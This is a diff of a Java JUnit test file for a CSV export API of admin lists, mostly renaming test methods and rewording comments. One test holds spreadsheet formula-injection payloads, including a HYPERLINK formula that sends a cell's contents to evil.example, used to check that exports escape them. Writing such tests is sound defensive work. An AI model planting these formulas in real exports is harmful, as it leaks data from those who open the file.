@@ -17,7 +17,7 @@ import org.junit.jupiter.api.Test;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.ValueSource;
 
-/** Every list of admins also comes as a table for spreadsheets. */
+/** Tests the CSV format of the admin lists. */
 class CsvApiTest extends ApiTest {
 
     private static final Pattern CELL = Pattern.compile("\\G(\"(?:[^\"]|\"\")*\"|[^,\"\r\n]*)(,|\r\n)");
@@ -27,7 +27,7 @@ class CsvApiTest extends ApiTest {
     @ParameterizedTest
     @ValueSource(strings = {
         "booking-requests", "mocks", "mentors", "mentees", "companies", "time-slots", "meet-links", "pricing-plans", "orders", "feedbacks"})
-    void comesAsATable(String list) {
+    void exportsEveryAdminListAsCsv(String list) {
         var filter = list.equals("time-slots") ? "mentor_id=" + rows().mentor.id() : "q=" + rows().marker;
         var path = "/api/admin/" + list + "?limit=100&" + filter;
 
@@ -55,7 +55,7 @@ class CsvApiTest extends ApiTest {
     }
 
     @Test
-    void tellsSlotsAndTopicsInOneCell() {
+    void writesSlotsAndTopicsInOneCellEach() {
         var cells = cells(table().get("/api/admin/booking-requests?q=" + rows().marker).expect(200));
 
         assertThat(cells.get(1).get(cells.getFirst().indexOf("specific_topics"))).isEqualTo("Graphs; Caching");
@@ -64,7 +64,7 @@ class CsvApiTest extends ApiTest {
     }
 
     @Test
-    void keepsHostileNamesHarmless() {
+    void escapesNamesThatLookLikeFormulas() {
         var marker = PersonFixtures.uniqueMarker();
         var hostile = List.of(
                 "=HYPERLINK(\"https://evil.example?x=\"&A1,\"Click\") " + marker, "@SUM(1+1) " + marker, "＝1+1 " + marker,
@@ -78,7 +78,7 @@ class CsvApiTest extends ApiTest {
     }
 
     @Test
-    void leadsToTheNextPart() {
+    void linksToTheNextPage() {
         var ids = new ArrayList<String>();
         var next = "/api/admin/mentees?limit=2&sort=name&q=" + rows().marker;
         while (next != null) {
@@ -94,7 +94,7 @@ class CsvApiTest extends ApiTest {
     }
 
     @Test
-    void hasItsHeaderWithoutRows() {
+    void writesTheHeaderWithoutRows() {
         var csv = table().get("/api/admin/meet-links?limit=1").expect(200);
         var empty = table().get("/api/admin/mentees?q=" + PersonFixtures.uniqueMarker()).expect(200);
 
@@ -104,14 +104,14 @@ class CsvApiTest extends ApiTest {
     }
 
     @Test
-    void holdsTenThousandRows() {
+    void exportsUpToTenThousandRows() {
         table().get("/api/admin/companies?limit=10000").expect(200);
         table().get("/api/admin/companies?limit=10001").expectInvalid("limit");
         as(given.admin()).get("/api/admin/companies?limit=101").expectInvalid("limit");
     }
 
     @Test
-    void refusesInJson() {
+    void returnsErrorsAsJson() {
         anonymous().header("Accept", "text/csv").get("/api/admin/mentees").expect(401, ErrorCode.UNAUTHENTICATED);
         as(given.freeMentee()).header("Accept", "text/csv").get("/api/admin/mentees").expect(403, ErrorCode.FORBIDDEN_ROLE);
         as(given.mentor()).header("Accept", "text/csv").get("/api/admin/orders").expect(403, ErrorCode.FORBIDDEN_ROLE);
@@ -120,7 +120,7 @@ class CsvApiTest extends ApiTest {
     }
 
     @Test
-    void isThereForListsOfAdminsOnly() {
+    void exportsOnlyAdminLists() {
         table().get("/api/companies").expect(406, ErrorCode.NOT_ACCEPTABLE);
         table().get("/api/payment/orders").expect(406, ErrorCode.NOT_ACCEPTABLE);
         table().get("/api/auth/me").expect(406, ErrorCode.NOT_ACCEPTABLE);
@@ -130,39 +130,39 @@ class CsvApiTest extends ApiTest {
 
     @ParameterizedTest
     @ValueSource(strings = {"*/*", "application/json", "application/json, text/csv", "text/csv;q=0.5, application/json", "text/html, */*;q=0.8"})
-    void staysJsonForThoseWhoPreferIt(String accept) {
-        var answer = as(given.admin()).header("Accept", accept).get("/api/admin/mentees").expect(200);
+    void returnsJsonWhenJsonIsPreferred(String accept) {
+        var response = as(given.admin()).header("Accept", accept).get("/api/admin/mentees").expect(200);
 
-        assertThat(answer.header("Content-Type")).isEqualTo("application/json");
-        assertThat(answer.json().at("/page/limit").asInt()).isEqualTo(20);
+        assertThat(response.header("Content-Type")).isEqualTo("application/json");
+        assertThat(response.json().at("/page/limit").asInt()).isEqualTo(20);
     }
 
     @ParameterizedTest
     @ValueSource(strings = {"text/csv;charset=UTF-8", "text/*", "text/csv, application/json;q=0.5", "text/csv, */*;q=0.1", "text/html, text/csv"})
-    void isATableForThoseWhoPreferThat(String accept) {
-        var answer = as(given.admin()).header("Accept", accept).get("/api/admin/mentees?limit=200").expect(200);
+    void returnsCsvWhenCsvIsPreferred(String accept) {
+        var response = as(given.admin()).header("Accept", accept).get("/api/admin/mentees?limit=200").expect(200);
 
-        assertThat(answer.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
+        assertThat(response.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
     }
 
     @ParameterizedTest
     @ValueSource(strings = {"csv", "*/csv", "text/csv;q=abc"})
-    void refusesWhatNamesNoType(String accept) {
+    void refusesAnInvalidAcceptHeader(String accept) {
         as(given.admin()).header("Accept", accept).get("/api/admin/mentees").expect(406, ErrorCode.NOT_ACCEPTABLE);
     }
 
     @Test
-    void refusesToChooseFromTooManyTypes() {
+    void refusesAnAcceptHeaderWithTooManyTypes() {
         var many = String.join(", ", Collections.nCopies(60, "text/csv"));
 
         as(given.admin()).header("Accept", many).get("/api/admin/mentees").expect(406, ErrorCode.NOT_ACCEPTABLE);
     }
 
     @Test
-    void isUtf8WhateverIsAskedFor() {
-        var answer = as(given.admin()).header("Accept", "text/csv;charset=iso-8859-1").get("/api/admin/mentees").expect(200);
+    void usesUtf8WhateverTheAcceptCharset() {
+        var response = as(given.admin()).header("Accept", "text/csv;charset=iso-8859-1").get("/api/admin/mentees").expect(200);
 
-        assertThat(answer.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
+        assertThat(response.header("Content-Type")).isEqualTo("text/csv;charset=UTF-8");
     }
 
     private ApiClient table() {
@@ -174,7 +174,7 @@ class CsvApiTest extends ApiTest {
         return rows;
     }
 
-    /** The header and the rows. Fails on what RFC 4180 does not know. */
+    /** Parses the header and the rows. Fails on text that does not conform to RFC 4180. */
     private static List<List<String>> cells(ApiResponse csv) {
         var table = new ArrayList<List<String>>(List.of(new ArrayList<>()));
         var cell = CELL.matcher(csv.text());
